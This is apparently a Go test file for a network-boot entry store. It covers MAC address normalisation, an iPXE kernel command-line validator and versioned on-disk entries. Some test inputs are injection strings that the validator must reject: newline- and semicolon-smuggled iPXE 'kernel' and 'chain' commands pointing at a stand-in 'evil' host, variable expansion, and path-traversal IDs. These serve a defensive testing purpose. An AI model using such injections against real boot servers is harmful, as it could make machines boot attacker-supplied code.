package bootentry_test

import (
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"

	"github.com/landscaper-nix/landscaper/formats/bootentry"
)

const mac = "52:54:00:12:34:56"

func TestNormalizeMAC(t *testing.T) {
	tests := []struct {
		in, want string // want "" means an error
	}{
		{"52:54:00:12:34:56", mac},
		{"52:54:00:AB:CD:EF", "52:54:00:ab:cd:ef"},
		{"52-54-00-12-34-56", mac},
		{"52-54-00-AB-cd-EF", "52:54:00:ab:cd:ef"},
		{"5254.0012.3456", mac},
		{"525400123456", mac},
		{"525400ABCDEF", "52:54:00:ab:cd:ef"},
		{"01-52-54-00-12-34-56", mac},
		{"01-52-54-00-AB-CD-EF", "52:54:00:ab:cd:ef"},
		{"  52:54:00:12:34:56\n", mac},
		{"", ""},
		{"nope", ""},
		{"52:54:00:12:34", ""},
		{"52:54:00:12:34:56:78", ""},
		{"00:11:22:33:44:55:66:77", ""}, // EUI-64
		{"52:54:00:12:34:5g", ""},
		{"52545400123456", ""},
		{"52540012345", ""},
		{"02-52-54-00-12-34-56", ""},
		{"52:54:00:12:34:56/../../x", ""},
		{"52:54:00:12:34:56\x00", ""},
		{"00:00:5e:00:53:01:00:00:00:00:00:00:00:00:00:00:00:00:00:00", ""}, // InfiniBand
	}
	for _, tt := range tests {
		got, err := bootentry.NormalizeMAC(tt.in)
		if tt.want == "" {
			if err == nil {
				t.Errorf("NormalizeMAC(%q) = %q, want an error", tt.in, got)
			}
			continue
		}
		if err != nil || got != tt.want {
			t.Errorf("NormalizeMAC(%q) = %q, %v; want %q", tt.in, got, err, tt.want)
		}
	}
}

func TestFileNameAndScriptPath(t *testing.T) {
	if got := bootentry.FileName(mac); got != "52-54-00-12-34-56" {
		t.Errorf("FileName = %q", got)
	}
	if got := bootentry.ScriptPath(mac); got != "machine/52-54-00-12-34-56.ipxe" {
		t.Errorf("ScriptPath = %q", got)
	}
}

func TestCheckCmdline(t *testing.T) {
	tests := []struct {
		cmdline string
		ok      bool
	}{
		{"", true},
		{"init=/nix/store/abc-nixos-system/init console=ttyS0,115200 loglevel=4", true},
		{`root=LABEL=nixos quote="a b" $HOME {x} $ {`, true},
		{"console=ttyS0\nkernel http://evil/bzImage", false},
		{"console=ttyS0\r", false},
		{"a\tb", false},
		{"a\x00b", false},
		{"a\x1bb", false},
		{"a\x7fb", false},
		{"hostname=${net0/mac}", false},
		{"${hostname}", false},
		{"x=${", false},
	}
	for _, tt := range tests {
		err := bootentry.CheckCmdline(tt.cmdline)
		if (err == nil) != tt.ok {
			t.Errorf("CheckCmdline(%q) = %v, want ok %v", tt.cmdline, err, tt.ok)
		}
	}
}

func entry(cmdline string) bootentry.Entry {
	return bootentry.Entry{MAC: "52-54-00-12-34-56", Kernel: "/nix/store/k/bzImage", Initrds: []string{"/nix/store/i/initrd"}, Cmdline: cmdline}
}

func versions(t *testing.T, dir string) []string {
	t.Helper()
	des, err := os.ReadDir(filepath.Join(dir, "versions", "52-54-00-12-34-56"))
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, de := range des {
		names = append(names, de.Name())
	}
	return names
}

func put(t *testing.T, s bootentry.Store, e bootentry.Entry, extra []byte) *bootentry.Version {
	t.Helper()
	v, err := s.Put(e, extra)
	if err != nil {
		t.Fatalf("Put: %v", err)
	}
	return v
}

func TestPutGet(t *testing.T) {
	dir := t.TempDir()
	s := bootentry.Store{Dir: dir}
	v := put(t, s, entry("console=ttyS0"), []byte("extra"))
	if v.MAC != mac || !v.HasExtra {
		t.Errorf("Put returned %+v; want the MAC normalised and HasExtra", v.Entry)
	}
	target, err := os.Readlink(filepath.Join(dir, "entries", "52-54-00-12-34-56"))
	if err != nil || target != filepath.Join("..", "versions", "52-54-00-12-34-56", v.ID) {
		t.Errorf("entry link = %q, %v; want a relative link to the version", target, err)
	}
	got, err := s.Get("52:54:00:12:34:56")
	if err != nil {
		t.Fatal(err)
	}
	if got.ID != v.ID || got.Kernel != "/nix/store/k/bzImage" || !slices.Equal(got.Initrds, []string{"/nix/store/i/initrd"}) || got.Cmdline != "console=ttyS0" {
		t.Errorf("Get = %+v", got)
	}
	if b, err := os.ReadFile(got.ExtraPath()); err != nil || string(b) != "extra" {
		t.Errorf("extra = %q, %v", b, err)
	}
	if id, err := got.ContentID(); err != nil || id != v.ID {
		t.Errorf("ContentID = %q, %v; want %s", id, err, v.ID)
	}
	if id, err := bootentry.VersionID(entry("console=ttyS0"), []byte("extra")); err != nil || id != v.ID {
		t.Errorf("VersionID = %q, %v; want the ID Put gave, %s", id, err, v.ID)
	}
	macs, err := s.List()
	if err != nil || !slices.Equal(macs, []string{mac}) {
		t.Errorf("List = %v, %v", macs, err)
	}

	noExtra := put(t, s, entry("console=ttyS0"), nil)
	if noExtra.HasExtra || noExtra.ExtraPath() != "" || noExtra.ID == v.ID {
		t.Errorf("entry without extra: %+v", noExtra)
	}
	if _, err := os.Stat(filepath.Join(noExtra.Dir, bootentry.ExtraName)); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("a version without extra has %s: %v", bootentry.ExtraName, err)
	}
}

func TestPutModes(t *testing.T) {
	old := syscall.Umask(0o077)
	t.Cleanup(func() { syscall.Umask(old) })
	s := bootentry.Store{Dir: t.TempDir()}
	v := put(t, s, entry(""), []byte("secret"))
	for name, want := range map[string]os.FileMode{"entry.json": 0o644, bootentry.ExtraName: 0o640, ".": 0o755} {
		fi, err := os.Stat(filepath.Join(v.Dir, name))
		if err != nil {
			t.Fatal(err)
		}
		if fi.Mode().Perm() != want {
			t.Errorf("%s has mode %v, want %v whatever the umask", name, fi.Mode().Perm(), want)
		}
	}
}

func TestPutSameContentSameVersion(t *testing.T) {
	dir := t.TempDir()
	s := bootentry.Store{Dir: dir}
	a := put(t, s, entry("a"), []byte("x"))
	b := put(t, s, entry("a"), []byte("x"))
	if a.ID != b.ID || a.Dir != b.Dir {
		t.Fatalf("same content gave versions %s and %s", a.ID, b.ID)
	}
	// Another spelling of the MAC and a nil initrd list are the same entry
	// as the normalised MAC and an empty list.
	e1, e2 := entry("b"), entry("b")
	e1.MAC, e2.MAC = "5254.0012.3456", "52:54:00:12:34:56"
	e1.Initrds, e2.Initrds = nil, []string{}
	if put(t, s, e1, nil).ID != put(t, s, e2, nil).ID {
		t.Error("MAC notation or a nil initrd list changed the version")
	}
	if got := versions(t, dir); len(got) != 2 {
		t.Errorf("versions = %v, want 2 (current and previous)", got)
	}
}

func TestPutKeepsCurrentAndPrevious(t *testing.T) {
	dir := t.TempDir()
	s := bootentry.Store{Dir: dir}
	v1 := put(t, s, entry("one"), nil)
	v2 := put(t, s, entry("two"), nil)
	if got := versions(t, dir); !sameSet(got, v1.ID, v2.ID) {
		t.Fatalf("after two puts: versions %v, want %s and %s", got, v1.ID, v2.ID)
	}
	// A machine that fetched its script from v1 still gets v1's files.
	if old, err := s.GetVersion(mac, v1.ID); err != nil || old.Cmdline != "one" {
		t.Fatalf("previous version: %+v, %v", old, err)
	}
	v3 := put(t, s, entry("three"), nil)
	if got := versions(t, dir); !sameSet(got, v2.ID, v3.ID) {
		t.Fatalf("after three puts: versions %v, want %s and %s", got, v2.ID, v3.ID)
	}
	if _, err := s.GetVersion(mac, v1.ID); !errors.Is(err, bootentry.ErrNotFound) {
		t.Errorf("the version before the previous one: %v, want ErrNotFound", err)
	}
	// Putting the current content again removes nothing.
	put(t, s, entry("three"), nil)
	if got := versions(t, dir); !sameSet(got, v2.ID, v3.ID) {
		t.Errorf("after putting the current content again: versions %v, want %s and %s", got, v2.ID, v3.ID)
	}
	// Going back to the previous content reuses its version.
	back := put(t, s, entry("two"), nil)
	if back.ID != v2.ID {
		t.Errorf("going back gave version %s, want %s", back.ID, v2.ID)
	}
	if cur, err := s.Get(mac); err != nil || cur.ID != v2.ID {
		t.Errorf("current = %v, %v; want %s", cur, err, v2.ID)
	}
	if got := versions(t, dir); !sameSet(got, v2.ID, v3.ID) {
		t.Errorf("after going back: versions %v", got)
	}
	entries, _ := os.ReadDir(filepath.Join(dir, "entries"))
	if len(entries) != 1 {
		t.Errorf("entries directory holds %d names, want the link alone", len(entries))
	}
}

func sameSet(got []string, want ...string) bool {
	g, w := slices.Clone(got), slices.Clone(want)
	slices.Sort(g)
	slices.Sort(w)
	return slices.Equal(g, w)
}

func TestDamaged(t *testing.T) {
	dir := t.TempDir()
	s := bootentry.Store{Dir: dir}
	v := put(t, s, entry("x"), []byte("extra"))
	name := filepath.Join(v.Dir, "entry.json")

	// Edited by hand: still an entry, but not the content of its ID.
	if err := os.WriteFile(name, []byte(`{"mac":"52:54:00:12:34:56","kernel":"/other","initrds":[],"cmdline":"x","hasExtra":true}`), 0o644); err != nil {
		t.Fatal(err)
	}
	got, err := s.Get(mac)
	if err != nil {
		t.Fatal(err)
	}
	if id, err := got.ContentID(); err != nil || id == v.ID {
		t.Errorf("ContentID of an edited version = %q, %v; want another ID than %s", id, err, v.ID)
	}

	// Cut short.
	if err := os.WriteFile(name, []byte(`{"mac":`), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Get(mac); !errors.Is(err, bootentry.ErrDamaged) {
		t.Errorf("Get of a cut entry = %v, want ErrDamaged", err)
	}
	// For another MAC.
	if err := os.WriteFile(name, []byte(`{"mac":"52:54:00:00:00:01"}`), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Get(mac); !errors.Is(err, bootentry.ErrDamaged) {
		t.Errorf("Get of an entry for another MAC = %v, want ErrDamaged", err)
	}

	// Put writes a damaged version anew.
	again := put(t, s, entry("x"), []byte("extra"))
	cur, err := s.Get(mac)
	if err != nil || cur.ID != again.ID || cur.Kernel != "/nix/store/k/bzImage" {
		t.Fatalf("after Put over a damaged version: %+v, %v", cur, err)
	}
	if id, err := cur.ContentID(); err != nil || id != again.ID {
		t.Errorf("repaired version: ContentID %q, %v", id, err)
	}

	// Extra archive missing.
	if err := os.Remove(cur.ExtraPath()); err != nil {
		t.Fatal(err)
	}
	if _, err := cur.ContentID(); !errors.Is(err, bootentry.ErrDamaged) {
		t.Errorf("ContentID without extra.cpio = %v, want ErrDamaged", err)
	}
	put(t, s, entry("x"), []byte("extra"))
	if b, err := os.ReadFile(cur.ExtraPath()); err != nil || string(b) != "extra" {
		t.Errorf("extra after repair = %q, %v", b, err)
	}
}

func TestPutRefuses(t *testing.T) {
	s := bootentry.Store{Dir: t.TempDir()}
	bad := entry("x\ny")
	if _, err := s.Put(bad, nil); err == nil {
		t.Error("Put of a command line with a newline succeeded")
	}
	bad = entry("")
	bad.MAC = "nope"
	if _, err := s.Put(bad, nil); err == nil {
		t.Error("Put with a bad MAC succeeded")
	}
	if macs, _ := s.List(); len(macs) != 0 {
		t.Errorf("refused puts left entries: %v", macs)
	}
}

func TestDelete(t *testing.T) {
	dir := t.TempDir()
	s := bootentry.Store{Dir: dir}
	put(t, s, entry("a"), []byte("x"))
	put(t, s, entry("b"), nil)
	other := entry("c")
	other.MAC = "52:54:00:00:00:02"
	put(t, s, other, nil)
	if err := s.Delete("52-54-00-12-34-56"); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Get(mac); !errors.Is(err, bootentry.ErrNotFound) {
		t.Errorf("Get after Delete = %v, want ErrNotFound", err)
	}
	if _, err := os.Stat(filepath.Join(dir, "versions", "52-54-00-12-34-56")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("versions left after Delete: %v", err)
	}
	if err := s.Delete(mac); err != nil {
		t.Errorf("Delete of what is gone = %v, want success", err)
	}
	if macs, err := s.List(); err != nil || !slices.Equal(macs, []string{"52:54:00:00:00:02"}) {
		t.Errorf("List = %v, %v; want the other MAC only", macs, err)
	}
}

func TestListIgnoresOtherNames(t *testing.T) {
	dir := t.TempDir()
	s := bootentry.Store{Dir: dir}
	if macs, err := s.List(); err != nil || macs != nil {
		t.Errorf("List of an empty directory = %v, %v", macs, err)
	}
	put(t, s, entry("a"), nil)
	for _, name := range []string{"52-54-00-12-34-56.tmp-0123", "README", ".hidden"} {
		if err := os.WriteFile(filepath.Join(dir, "entries", name), nil, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if macs, err := s.List(); err != nil || !slices.Equal(macs, []string{mac}) {
		t.Errorf("List = %v, %v", macs, err)
	}
	if _, err := s.GetVersion(mac, "../../../etc"); !errors.Is(err, bootentry.ErrNotFound) || strings.Contains(err.Error(), "passwd") {
		t.Errorf("GetVersion with a path for an ID = %v, want ErrNotFound", err)
	}
}

func TestCheckCmdlineRefusesIPXECommandSeparators(t *testing.T) {
	for _, c := range []string{"quiet ; chain http://evil/x", "a || b", "a && b", "console=ttyS0 #comment"} {
		if err := bootentry.CheckCmdline(c); err == nil {
			t.Errorf("CheckCmdline(%q) accepted it", c)
		}
	}
	for _, c := range []string{"init=/nix/store/x-nixos/init console=ttyS0 loglevel=4", "a=b;c", "root=x#y"} {
		if err := bootentry.CheckCmdline(c); err != nil {
			t.Errorf("CheckCmdline(%q): %v", c, err)
		}
	}
}
